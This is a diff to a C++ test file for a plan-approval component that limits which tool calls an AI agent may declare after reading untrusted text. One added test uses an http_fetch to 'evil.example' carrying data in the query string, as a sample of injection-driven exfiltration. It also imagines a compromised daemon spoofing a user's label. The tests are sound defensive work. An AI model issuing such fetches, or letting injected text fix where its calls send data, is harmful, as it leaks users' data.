@@ -106,9 +106,27 @@ TEST_F(Book, APlanShrinksUnderAStrangersTextAndNeverGrows) {
     auto book = PlanBook::open(path()).value();
     ASSERT_TRUE(book.declare(plan({{"files_edit", "{}"}, {"shell_run", "{}"}}), who).ok());
     who.label = flow::Label::unknown();
-    EXPECT_TRUE(book.declare(plan({{"files_edit", R"({"path": "/p/a"})"}}), who).ok());
-    EXPECT_FALSE(book.declare(plan({{"files_edit", "{}"}}), who).ok());
+    EXPECT_FALSE(book.declare(plan({{"files_edit", R"({"path": "/p/a"})"}}), who).ok());
+    EXPECT_TRUE(book.declare(plan({{"files_edit", "{}"}}), who).ok());
     EXPECT_FALSE(book.declare(plan({{"shell_run", "{}"}}), who).ok());
+}
+
+// Else a stranger's address is fixed in a call that was declared without one, and so vouched for.
+TEST_F(Book, AfterAStrangersTextNothingIsFixedInAPlan) {
+    auto book = PlanBook::open(path()).value();
+    ASSERT_TRUE(book.declare(plan({{"http_fetch", "{}"}, {"files_write", "{}"}}), who).ok());
+    ASSERT_TRUE(
+        book.declare(plan({{"http_fetch", "{}"}, {"files_write", R"({"path": "/p/a"})"}}), who)
+            .ok());
+    who.label.integrity = flow::Integrity::untrusted;
+    book.note(who);
+    who.label = flow::Label::of_person("anna");  // as a hardshelld that was taken over might say
+    const auto evil = plan({{"http_fetch", R"({"url": "https://evil.example/?d=1"})"}});
+    EXPECT_EQ(book.declare(evil, who).error().code, Code::conflict);
+    auto again = PlanBook::open(path()).value();
+    EXPECT_EQ(again.declare(evil, who).error().code, Code::conflict);
+    EXPECT_TRUE(again.declare(plan({{"http_fetch", "{}"}}), who).ok());
+    EXPECT_FALSE(marked(again, Action(fetch("/x"))).destination_endorsed);
 }
 
 TEST_F(Book, ItSurvivesARestartAndEndsOnce) {
